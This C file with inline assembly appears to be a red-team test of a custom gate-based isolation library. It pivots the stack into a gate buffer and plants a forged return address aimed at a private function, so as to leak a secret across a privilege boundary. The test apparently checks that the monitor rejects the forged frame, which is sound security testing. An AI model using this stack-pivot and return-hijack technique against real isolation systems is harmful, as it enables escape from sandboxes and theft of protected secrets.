/* nonebuf OFFSET: the program calls libgrnone's level-none gate with rsp inside its own gate buffer. At level
 * none the callee's frame goes at the caller's rsp - 16, through the callee's page tables, where the gate buffer
 * is the callee's own; the message the program wrote is copied there: it holds, at that frame, the address of
 * none_private (the gate's address + OFFSET, read from the library file) and then the monitor's return point.
 * If that frame were accepted, the leaf gate's `ret` would run none_private, whose `ret` ends the crossing with
 * the secret. The program is bound to a gate of libgrnone at level full, so it may see none of its memory. */
#include <stdio.h>
#include <stdlib.h>

#include "redteam.h"

/* call_with_rsp(rsp, gate): rsp = rsp; call gate; rsp restored from rbx. */
long call_with_rsp(unsigned long rsp, long (*gate)(void));
__asm__(".text\n.globl call_with_rsp\n.type call_with_rsp, @function\n"
        "call_with_rsp:\n"
        "    push %rbx\n"
        "    mov %rsp, %rbx\n"
        "    mov %rdi, %rsp\n"
        "    call *%rsi\n"
        "    mov %rbx, %rsp\n"
        "    pop %rbx\n"
        "    ret\n"
        ".size call_with_rsp, .-call_with_rsp\n");

int main(int argc, char **argv)
{
    if (argc < 2)
        return 2;
    long offset = strtol(argv[1], NULL, 16);
    long (*volatile gate)(void) = none_version;
    unsigned long *words = twz_gate_buffer();
    unsigned long rsp = (unsigned long)(words + 256);
    /* the call pushes its return address at rsp - 8; the callee's frame would be at rsp - 24 */
    words[256 - 3] = (unsigned long)gate + offset;
    words[256 - 2] = RETURN_POINT;
    long got = call_with_rsp(rsp, gate);
    printf("level none gate called with rsp in the gate buffer returned %#lx\n", got);
    printf("check: %ld\n", none_check(0x5ec2e7L));
    return 0;
}
